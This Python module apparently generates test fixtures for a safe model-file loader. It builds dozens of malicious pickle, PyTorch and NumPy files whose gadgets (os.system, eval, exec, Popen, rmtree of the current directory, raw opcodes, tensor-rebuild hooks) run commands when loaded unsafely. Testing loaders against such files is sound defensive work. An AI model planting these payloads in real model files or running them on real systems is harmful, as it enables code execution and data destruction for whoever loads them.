"""Pickles that would run something in a reader that calls what they name."""

from __future__ import annotations

import io
import os
import pickle
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import numpy as np

from .writing import (
    PROOF,
    TOUCH,
    WRITE,
    Call,
    Name,
    Raw,
    Stored,
    array,
    code,
    dump,
    storage,
    torch_legacy,
    torch_zip,
)


def gadgets() -> Iterator[tuple[str, bytes]]:
    """What would run something in a reader that calls what a pickle names."""
    system = Call(Name("os", "system"), (TOUCH,))
    imported = Call(Name("builtins", "__import__"), ("os",))
    loads = dump(system)
    calls = {
        "os.system": system,
        "posix.system": Call(Name("posix", "system"), (TOUCH,)),
        "nt.system": Call(Name("nt", "system"), (TOUCH,)),
        "eval": Call(Name("builtins", "eval"), (WRITE,)),
        "exec": Call(Name("builtins", "exec"), (WRITE,)),
        "eval of Python 2": Call(Name("__builtin__", "eval"), (WRITE,)),
        "open": Call(Name("builtins", "open"), (PROOF, "w")),
        "io.open": Call(Name("_io", "open"), (PROOF, "w")),
        "FileIO": Call(Name("_io", "FileIO"), (PROOF, "w")),
        "import": Call(Name("importlib", "import_module"), ("trap",)),
        "import by name": Name("trap", "value"),
        "a dotted name": Raw(code("torch") + code("os.system") + b"\x93" + code((TOUCH,)) + b"R"),
        "Popen": Call(Name("subprocess", "Popen"), (["touch", PROOF],)),
        "getattr": Call(Call(Name("builtins", "getattr"), (imported, "system")), (TOUCH,)),
        "getattr of what is known": Call(
            Call(Name("builtins", "getattr"), (Name("torch._utils", "_rebuild_tensor"), "x")), (1,)
        ),
        "attrgetter": Call(Call(Name("operator", "attrgetter"), ("system",)), (imported,)),
        "methodcaller": Call(Call(Name("operator", "methodcaller"), ("run",)), (system,)),
        "partial": Call(Call(Name("functools", "partial"), (Name("os", "system"), TOUCH))),
        "map": Call(
            Name("builtins", "list"),
            (Call(Name("builtins", "map"), (Name("os", "system"), [TOUCH])),),
        ),
        "reduce": Call(Name("functools", "reduce"), (Name("os", "system"), [TOUCH, TOUCH])),
        "code": Call(Name("types", "FunctionType"), (Call(Name("types", "CodeType"), (0,)), {})),
        "marshal": Call(Name("marshal", "loads"), (b"c",)),
        "runpy": Call(Name("runpy", "run_module"), ("trap",)),
        "ctypes": Call(Name("ctypes", "CDLL"), ("libc.so.6",)),
        "rmtree": Call(Name("shutil", "rmtree"), (".",)),
        "socket": Call(Name("socket", "create_connection"), (("127.0.0.1", 9),)),
        "pickle.loads": Call(Name("pickle", "loads"), (loads,)),
        "_pickle.loads": Call(Name("_pickle", "loads"), (loads,)),
        "numpy.load": Call(Name("numpy", "load"), (PROOF, None, True)),
        "numpy.runstring": Call(Name("numpy.testing._private.utils", "runstring"), (WRITE, {})),
        "numpy.memmap": Call(Name("numpy", "memmap"), (PROOF, "u1", "w+", 0, (1,))),
        "torch.load": Call(Name("torch", "load"), (PROOF,)),
        "torch.load of a stream": Call(
            Name("torch", "load"), (Call(Name("_io", "BytesIO"), (torch_zip(loads),)),)
        ),
        "torch.save": Call(Name("torch", "save"), (1, PROOF)),
        "torch.hub": Call(Name("torch.hub", "load"), (".", "trap", "local")),
        "torch.compile": Call(Name("torch.utils.cpp_extension", "load_inline"), ("x", "")),
        "a storage from a file": Call(Name("torch", "UntypedStorage.from_file"), (PROOF, True, 4)),
        "a nested zip": Call(Name("torch.storage", "_load_from_bytes"), (torch_zip(loads),)),
        "a nested legacy file": Call(
            Name("torch.storage", "_load_from_bytes"), (torch_legacy(loads),)
        ),
        "a nested pickle": Call(Name("torch.storage", "_load_from_bytes"), (loads,)),
        "a source": Call(
            Name("torch_utils.persistence", "_reconstruct_persistent_obj"),
            (
                {
                    "type": "class",
                    "version": 6,
                    "module_src": WRITE,
                    "class_name": system,
                    "state": {},
                },
            ),
        ),
        "a state for os": Call(Name("builtins", "object"), (), {"__class__": system}),
        "a state for a name": Raw(code(Name("torch", "Size")) + code({"__call__": system}) + b"b"),
        "_reconstructor": Call(
            Name("copyreg", "_reconstructor"), (Name("os", "system"), system, TOUCH)
        ),
        "__setstate__": Call(Name("trap", "Class"), (), {"x": 1}),
        "__newobj__": Raw(code(Name("os", "system")) + code((TOUCH,)) + b"\x81"),
        "__newobj_ex__": Raw(code(Name("os", "system")) + code((TOUCH,)) + code({}) + b"\x92"),
        "INST": Raw(b"(" + code(TOUCH) + b"ios\nsystem\n"),
        "OBJ": Raw(b"(" + code(Name("os", "system")) + code(TOUCH) + b"o"),
        "EXT": Raw(b"\x82\x01"),
        "a persistent id": Stored(("module", system, "x", "y")),
        "a persistent line": Raw(b"Pos.system\n"),
        "a buffer": Raw(b"\x97"),
        "a hook of a tensor": Call(
            Name("torch._utils", "_rebuild_tensor_v2"), (storage(), 0, (4,), (1,), False, system)
        ),
        "a type of a tensor": Call(
            Name("torch._tensor", "_rebuild_from_type_v2"),
            (Name("os", "system"), Name("torch", "Tensor"), (TOUCH,), {}),
        ),
        "a codec": Call(Name("_codecs", "encode"), (WRITE, "rot13")),
    }
    for name, call in calls.items():
        data = {"comp": call, "mean": call, "std": call, "G_ema": call, "state_dict": {"x": call}}
        yield f"{name}.pkl", dump(data)
        yield f"{name}.pt", torch_zip(dump(data), bytes(16))
    yield "os.system legacy.pt", torch_legacy(dump(system))
    yield "os.system in the keys.pt", torch_legacy(dump({}), dump(system))
    yield "os.system.npy", array(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", loads)
    for protocol in range(6):
        for function, argument in ((os.system, TOUCH), (eval, WRITE)):
            pickled = pickle.dumps(_Gadget(function, argument), protocol)
            yield f"{function.__name__} in protocol {protocol}.pkl", pickled
            yield f"{function.__name__} in protocol {protocol}.pt", torch_zip(pickled)
    objects = np.array([_Gadget(os.system, TOUCH)], dtype=object)
    for write, name in ((np.save, "npy"), (np.savez, "npz"), (np.savez_compressed, "small.npz")):
        file = io.BytesIO()
        write(file, objects, allow_pickle=True)
        yield f"objects.{name}", file.getvalue()


@dataclass
class _Gadget:
    function: Callable[..., Any]
    argument: str

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, (self.argument,)
